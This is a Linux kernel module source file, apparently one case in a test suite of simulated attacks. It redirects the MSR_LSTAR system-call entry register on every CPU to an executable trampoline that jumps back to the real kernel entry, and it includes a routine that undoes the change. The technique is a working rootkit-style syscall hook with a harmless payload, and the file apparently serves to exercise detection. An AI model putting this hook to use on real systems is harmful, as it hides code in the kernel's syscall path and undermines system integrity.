// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* MSR_LSTAR of each CPU leads to a copy of nothing but a jump to the kernel's entry of system
 * calls. */
#include "attack.h"

#include <asm/msr.h>

static void *stub;
static u64 original;

static void set(void *value)
{
	unsigned long address = (unsigned long)value;

	asm volatile("wrmsr" : : "c"(MSR_LSTAR), "a"((u32)address), "d"((u32)(address >> 32)));
}

static int attack(void)
{
	int (*executable)(unsigned long address, int pages) = function("set_memory_x", *executable);
	int (*read_only)(unsigned long address, int pages) = function("set_memory_ro", *read_only);
	u8 code[14] = {0xff, 0x25};
	u32 low, high;

	if (!executable || !read_only)
		return -ENOENT;
	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(MSR_LSTAR));
	original = (u64)high << 32 | low;
	/* jmp *0(%rip), and the address behind it: it changes no register. */
	memcpy(code + 6, &original, 8);
	stub = vmalloc(PAGE_SIZE);
	if (!stub)
		return -ENOMEM;
	memcpy(stub, code, sizeof(code));
	read_only((unsigned long)stub, 1);
	executable((unsigned long)stub, 1);
	on_each_cpu(set, stub, 1);
	return 0;
}

static void undo(void)
{
	int (*data)(unsigned long address, int pages) = function("set_memory_nx", *data);
	int (*writable)(unsigned long address, int pages) = function("set_memory_rw", *writable);

	on_each_cpu(set, (void *)(unsigned long)original, 1);
	data((unsigned long)stub, 1);
	writable((unsigned long)stub, 1);
	vfree(stub);
}

ATTACK("MSR_LSTAR leads elsewhere");
